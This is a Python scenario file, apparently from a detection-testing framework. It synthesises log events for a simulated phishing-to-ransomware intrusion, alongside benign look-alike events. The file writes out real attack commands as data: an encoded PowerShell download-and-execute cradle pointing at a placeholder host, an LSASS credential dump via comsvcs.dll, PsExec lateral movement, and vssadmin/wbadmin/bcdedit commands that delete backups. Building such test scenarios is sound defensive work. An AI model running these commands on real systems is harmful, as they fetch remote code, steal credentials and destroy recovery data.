"""A macro in a mail, a beacon, other machines, and at night all that could be restored is deleted."""

from base64 import b64encode
from datetime import timedelta

from sentinel.testing.city import mail, services, windows
from sentinel.testing.city.firewalls import Flow, traffic
from sentinel.testing.city.town import BACKUP, DC1, FILES, JUMP, PROXY, Person
from sentinel.testing.city.windows import SYSTEM
from sentinel.testing.scene import About, Scene

ABOUT = About(
    "Phishing with a macro, beacon, lateral movement, ransomware prepared", "critical", (7.5, 10), timedelta(hours=44)
)
_WORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
_SHELL = f"{SYSTEM}WindowsPowerShell\\v1.0\\powershell.exe"
_HOME = ("statistik-abruf.example", "203.0.113.66")


def tell(scene: Scene) -> None:
    """Tell it, with an administrator's work beside it."""
    victim, rng = scene.someone("liegenschaften"), scene.rng
    letter = mail.Message(
        "mahnung@inkasso-nord.example",
        victim.mail,
        "Letzte Mahnung 4471",
        148_000,
        ("mail.inkasso-nord.example", "203.0.113.61"),
    )
    scene.say("the mail", *mail.arrives(scene.begin, letter, rng))
    at = scene.after(minutes=24)
    document = f'"{_WORD}" /n "C:\\Users\\{victim.login}\\Downloads\\Mahnung_4471.docm"'
    outlook = "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"
    scene.say("the document", windows.process(at, victim.host, victim.login, _WORD, document, outlook))
    order = b64encode("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.80/a')".encode("utf-16-le"))
    command = f"powershell.exe -NoP -W Hidden -EncodedCommand {order.decode()}"
    scene.say("the macro", windows.process(scene.after(minutes=25), victim.host, victim.login, _SHELL, command, _WORD))
    fetched = services.fetched(scene.after(minutes=25, seconds=3), victim.address, "", "http://203.0.113.80/a", 311_296)
    program = f"C:\\Users\\{victim.login}\\AppData\\Roaming\\abruf.exe"
    scene.say(
        "the program", fetched, windows.written(scene.after(minutes=26), victim.host, victim.login, _SHELL, program)
    )
    _beacon(scene, program, victim)
    _spread(scene, victim)
    _twin(scene)


def _beacon(scene: Scene, program: str, victim: Person) -> None:
    rng = scene.rng
    for number in range(180):
        at = scene.after(minutes=30 + number * 10, seconds=rng.uniform(-40, 40))
        scene.say(
            "the beacon",
            services.proxied(at, victim.address, victim.login, _HOME, rng, size=2100),
            traffic(at + timedelta(seconds=1), Flow(PROXY.address, _HOME[1], 443, 1900, 2100, 2), rng),
        )
        if number % 12 == 0:
            scene.say(
                "the beacon", windows.connected(at, victim.host, victim.login, program, victim.address, _HOME[1], 443)
            )


def _spread(scene: Scene, victim: Person) -> None:
    dumped = scene.after(hours=22)
    lsass = f"{SYSTEM}lsass.exe"
    command = f"rundll32.exe {SYSTEM}comsvcs.dll, MiniDump 680 C:\\Windows\\Temp\\d.bin full"
    scene.say(
        "passwords from memory",
        windows.process(dumped, victim.host, victim.login, f"{SYSTEM}rundll32.exe", command, f"{SYSTEM}cmd.exe"),
        windows.touched(dumped + timedelta(seconds=1), victim.host, victim.login, f"{SYSTEM}rundll32.exe", lsass),
    )
    others = [one for one in scene.city.staff if one != victim][:3]
    for number, host in enumerate((*(one.host for one in others), FILES.host, DC1.host)):
        at = scene.after(hours=23, minutes=7 * number)
        scene.say(
            "other machines",
            windows.logon(at, host, "adm-roth", 3, victim.address, ntlm=True),
            windows.privileges(at + timedelta(milliseconds=10), host, "adm-roth"),
            windows.service(at + timedelta(seconds=2), host, "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe"),
        )
    for number, command in enumerate(
        (
            "vssadmin.exe delete shadows /all /quiet",
            "wbadmin.exe delete catalog -quiet",
            "bcdedit.exe /set {default} recoveryenabled no",
            'net.exe stop "SQLSERVERAGENT" /y',
        )
    ):
        at = scene.after(hours=42, minutes=2 * number)
        image = f"{SYSTEM}{command.partition(' ')[0]}"
        line = windows.process(at, FILES.host, "adm-roth", image, command, f"{SYSTEM}cmd.exe")
        scene.say("nothing to restore from", line, decisive=number == 0)


def _twin(scene: Scene) -> None:
    at = scene.after(hours=26)
    scene.twin(
        "the backup looks for its snapshots",
        windows.logon(at, BACKUP.host, "svc-backup", 3, JUMP.address),
        windows.process(
            at, BACKUP.host, "svc-backup", f"{SYSTEM}vssadmin.exe", "vssadmin.exe list shadows", f"{SYSTEM}cmd.exe"
        ),
    )
    writer = scene.someone("rathaus")
    at = scene.after(hours=3)
    template = f'"{_WORD}" /n "H:\\Vorlagen\\Bescheid.dotm"'
    scene.twin(
        "a template with a macro",
        windows.process(at, writer.host, writer.login, _WORD, template, "C:\\Windows\\explorer.exe"),
    )
    at = scene.after(hours=5)
    scene.twin(
        "an agent is installed",
        windows.service(at, FILES.host, "Inventar-Agent", '"C:\\Program Files\\Inventar\\agent.exe"'),
    )
